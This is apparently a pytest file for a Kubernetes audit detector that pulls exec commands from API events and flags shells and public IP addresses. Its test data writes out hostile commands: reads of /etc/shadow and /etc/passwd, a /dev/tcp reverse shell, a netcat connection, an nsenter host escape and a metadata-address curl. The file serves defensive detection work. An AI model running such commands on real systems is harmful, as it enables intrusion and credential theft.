"""Commands inside containers, from wherever the event tells them."""

import pytest

EXEC = {"resource": "pods", "namespace": "shop", "name": "web", "subresource": "exec"}


def _exec(make, query, verb="get", **more):
    return make(verb=verb, requestURI=f"/api/v1/namespaces/shop/pods/web/exec?{query}", objectRef=EXEC, **more)


def test_command_of_the_uri(make):
    facts = _exec(make, "command=sh&command=-c&command=cat+%2Fetc%2Fshadow&container=main&stdin=true&tty=true")
    assert facts.value("exec.argv") == ["sh", "-c", "cat /etc/shadow"]
    assert facts.value("exec.command") == "sh -c cat /etc/shadow"
    assert facts.value("exec.container") == "main"
    assert facts.value("exec.stdin") is True
    assert facts.value("exec.tty") is True
    assert facts.value("exec.is_shell") is True


def test_command_of_the_body(make):
    body = {"kind": "PodExecOptions", "command": ["ls", "-la"], "container": "main", "stdin": True}
    facts = _exec(make, "", requestObject=body, verb="create")
    assert facts.value("exec.command") == "ls -la"
    assert facts.value("exec.container") == "main"
    assert facts.value("exec.stdin") is True
    assert facts.value("exec.tty") is False


def test_command_of_the_envelope(make):
    facts = _exec(make, "", envelope={"command.gke.io/command": "cat /etc/passwd"})
    assert facts.value("exec.command") == "cat /etc/passwd"
    assert facts.value("exec.is_shell") is False


def test_command_of_the_kubelet(make):
    facts = make(
        requestURI="/api/v1/nodes/n/proxy/run/shop/web/main?cmd=cat%20/etc/shadow",
        objectRef={"resource": "nodes", "name": "n", "subresource": "proxy"},
    )
    assert facts.value("exec.command") == "cat /etc/shadow"
    assert facts.value("exec.container") == "main"


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["/bin/bash"], True),
        (["sh", "-c", "id"], True),
        (["busybox", "sh"], True),
        (["busybox", "ls"], False),
        (["env", "A=1", "/bin/sh"], True),
        (["nsenter", "-t", "1", "-m", "bash"], True),
        (["ls", "-la"], False),
        (["cat", "bash"], False),
        (["/bin/sh -c id"], True),
        (["powershell.exe"], True),
        (["C:\\Windows\\cmd.exe"], True),
        (["sh 'unclosed"], True),
        ([" "], False),
    ],
)
def test_shells(make, words, expected):
    facts = _exec(make, "", verb="create", requestObject={"command": words})
    assert facts.value("exec.is_shell") is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl http://8.8.8.8/x", True),
        ("curl http://10.0.0.1/x", False),
        ("nc 203.0.113.5 4444", True),
        ("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", True),
        ("curl http://169.254.169.254/", False),
        ("apt install x=1.2.3.4.5", False),
        ("pip install x==1.2.3.4", False),
        ("pip install 'x>=1.2.3.4'", False),
        ("npm install x@v1.2.3.4", False),
        ("apk add x-1.2.3.4", False),
        ("nc --host=8.8.8.8 4444", True),
        ("ssh root@8.8.8.8", True),
        ("ping 2001:4860:4860::8888", True),
        ("date +12:30:59", False),
        ("echo 127.0.0.1", False),
    ],
)
def test_public_addresses(make, command, expected):
    facts = _exec(make, "", verb="create", requestObject={"command": ["sh", "-c", command]})
    assert facts.value("exec.has_public_ip") is expected


def test_other_requests_have_no_command(make):
    assert make().value("exec.command") is None
    assert make().value("exec.is_shell") is None
    assert make().value("exec.tty") is None
